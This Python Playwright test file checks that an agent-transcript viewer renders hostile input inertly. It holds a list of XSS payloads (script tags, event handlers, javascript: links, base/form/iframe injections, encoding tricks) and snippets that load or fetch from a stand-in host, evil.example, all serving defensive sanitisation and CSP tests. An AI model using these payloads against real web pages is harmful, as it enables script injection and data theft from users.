"""A page of a hostile transcript, in a real browser: nothing of it runs, and nothing leaves."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from serving import until
from stenograph.model import (
    AttachmentBlock,
    CommandBlock,
    ErrorPayload,
    Event,
    LifecyclePayload,
    MessagePayload,
    Origin,
    StreamBlock,
    SystemPayload,
    TextBlock,
    ThinkingBlock,
    ToolPayload,
    ToolResultBlock,
    ToolUseBlock,
    UnknownPayload,
    UsagePayload,
)

Open = Callable[..., Any]
HOST = "https://evil.example"
ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    f"</title><script src={HOST}/x.js></script>",
    f"</style><style>body{{background:url({HOST}/x)}}</style>",
    "<img src=x onerror=alert(1)>",
    f"<img src={HOST}/x.png>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    f"<iframe srcdoc='<script>alert(1)</script>' src={HOST}></iframe>",
    f"<link rel=stylesheet href={HOST}/x.css><meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href={HOST}><form action={HOST}><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x",
    "</pre></div></details></main></body></html><script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
    "`><img src=x onerror=alert(1)>`",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    f'[x]({HOST}/" onclick="alert(1))',
    f"![x]({HOST}/x.png)",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>\u2066alert(1)\x00</script>",
    "diff --git a b\n+<script>alert(1)</script>",
    "x\u2028</script><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="


def _events(words: str) -> Iterator[Event]:
    """Every event type with these words in every field that holds text."""
    for kind, payload in _payloads(words):
        yield Event(
            seq=0,
            run_id=words,
            parent_run_id=words,
            child_run_id=words,
            type=kind,
            path=words,
            iteration=1,
            timestamp=words,
            origin=Origin(
                adapter=words, source=words, session_id=words, prompt_name=words, file=words, parent_call_id=words
            ),
            payload=payload,
        )
        yield Event(
            seq=0, run_id=words, type=kind, path=words, iteration=0, timestamp=words, payload=payload
        )  # said by the main agent


def _payloads(words: str) -> Iterator[tuple[str, Any]]:
    given = {words: words, "command": words, "file_path": words, "old_string": words, "new_string": f"{words}\n{words}"}
    blocks = (
        TextBlock(fidelity="router", text=words),
        ThinkingBlock(fidelity="router", thinking=words),
        ToolUseBlock(fidelity="router", tool_name=words, tool_id="nobody", tool_input=given),
        ToolResultBlock(fidelity="router", tool_id="nobody", tool_content=words),
        CommandBlock(fidelity="router", command=words),
        StreamBlock(fidelity="router", text=words),
        AttachmentBlock(fidelity="router", media_type=words, size=1, sha256=words, data=words),
        AttachmentBlock(fidelity="router", media_type="image/png", size=1, sha256=words, data=words),
        AttachmentBlock(fidelity="router", media_type="image/svg+xml", size=1, sha256=words, data=SVG),
        AttachmentBlock(fidelity="router", media_type="text/html", size=1, sha256=words, data=SVG),
    )
    for role in ("user", "assistant"):
        message = MessagePayload(role=role, blocks=blocks, system_prompt=words, model=words, message_id=words)
        yield f"message.{role}", message
    yield "tool.call", ToolPayload(name=words, call_id=words, input=given, output=None, fidelity="router")
    yield (
        "tool.result",
        ToolPayload(
            name=words, call_id=words, input=None, output=words * 3, error=words, fidelity="router", blocks=blocks
        ),
    )
    yield "tool.result", ToolPayload(name=words, call_id="", input=None, output={words: [words]}, fidelity="router")
    for kind in ("run.started", "run.completed", "step.started", "step.completed", "step.call_workflow.started"):
        yield kind, LifecyclePayload(name=words, kind=words, error=words, result=words)
    yield "system.event", SystemPayload(subtype=words, text=words, data={"cwd": words, words: words})
    yield "system.event", SystemPayload(subtype="compaction", text=words, data=words)
    yield "token.usage", UsagePayload(scope="call", input_tokens=1, output_tokens=1, model=words, message_id=words)
    yield "error", ErrorPayload(message=words, code=words, data=words)
    yield "unknown", UnknownPayload(value={words: words})
    yield "unknown", UnknownPayload(text=words)
    yield words, {words: words}


@pytest.mark.parametrize("anchor", ["", "seq-1", "<img src=x onerror=alert(1)>", "%", "%22%3E%3Cscript%3Ealert(1)"])
def test_a_hostile_transcript_runs_nothing(open_page: Open, anchor: str) -> None:
    """Every attack in every field, all folds open, the mouse over everything: no dialog, no request, no complaint."""
    attacks = ATTACKS if anchor == "" else ATTACKS[:4]
    seen = open_page((event for words in attacks for event in _events(words)), anchor=anchor)
    page = seen.page
    page.get_by_role("button", name="All", exact=True).click()
    for name in ("script", "style", "head title", "main"):
        expect(page.locator(name)).to_have_count(1)
    expect(page.locator("title")).to_have_count(1 + page.locator("svg.strip rect").count())  # ours, of the minimap
    for name in ("base", "iframe", "object", "embed", "link", "form", "svg:not(.strip)", "math", "template", "video"):
        expect(page.locator(name)).to_have_count(0)
    page.locator("#search").fill("<script>")
    expect(page.locator("#count")).to_contain_text("of")
    page.evaluate("document.querySelectorAll('main *').forEach((each) => each.dispatchEvent(new Event('mouseover')))")
    page.evaluate("document.querySelectorAll('a, input, summary').forEach((each) => each.focus())")
    page.wait_for_timeout(300)
    seen.assert_quiet()


def test_no_link_leads_anywhere_but_the_web_and_the_page(open_page: Open) -> None:
    """Addresses are `#…`, http or https, and no element has a handler or a style of its own."""
    page = open_page(event for words in ATTACKS for event in _events(words)).page
    links = page.evaluate("[...document.links].map((each) => each.protocol + (each.hash && each.getAttribute('href')))")
    assert {link.partition(":")[0] for link in links} <= {"https", "file"}
    names = page.evaluate(
        "[...new Set([...document.querySelectorAll('*')].flatMap((each) => each.getAttributeNames()))]"
    )
    assert not [name for name in names if name.startswith("on") or name in ("style", "srcdoc", "formaction")]


BREACH = """() => {
  const image = document.createElement('img');
  image.src = 'https://evil.example/x.png';
  const style = document.createElement('style');
  style.textContent = 'body { color: red }';
  document.head.append(style, image);
  document.body.setAttribute('style', 'color: red');
}"""
WRITING = "(() => { try { document.body.innerHTML = '<b>'; return 'taken' } catch { return 'stopped' } })()"


def test_the_policy_stops_what_would_get_through(open_page: Open) -> None:
    """Were there a hole, an image, a style, a request and markup that are put in by hand still fail."""
    seen = open_page([])
    page = seen.page
    stopped: list[str] = []
    page.on("requestfailed", lambda request: stopped.append(f"{request.url} {request.failure}"))
    page.evaluate(BREACH)
    assert page.evaluate("fetch('https://evil.example/y').then(() => 'sent', () => 'stopped')") == "stopped"
    assert page.evaluate(WRITING) == "stopped"
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(35, 33, 29)"
    until(page, lambda: len(seen.requests) == len(stopped) and len(seen.complaints) >= 4)
    assert all("csp" in each for each in stopped)


def test_overrides_are_shown_and_not_obeyed(open_page: Open) -> None:
    """A bidi override in a name does not turn the letters beside it around."""
    words = "invoice\u202egnp.exe"
    blocks = (TextBlock(fidelity="router", text=words),)
    event = Event(
        seq=1,
        run_id="r",
        type="message.user",
        path="",
        iteration=0,
        timestamp="",
        payload=MessagePayload(role="user", blocks=blocks),
    )
    page = open_page([event]).page
    expect(page.locator(".user .md")).to_have_text("invoice\\u202egnp.exe")
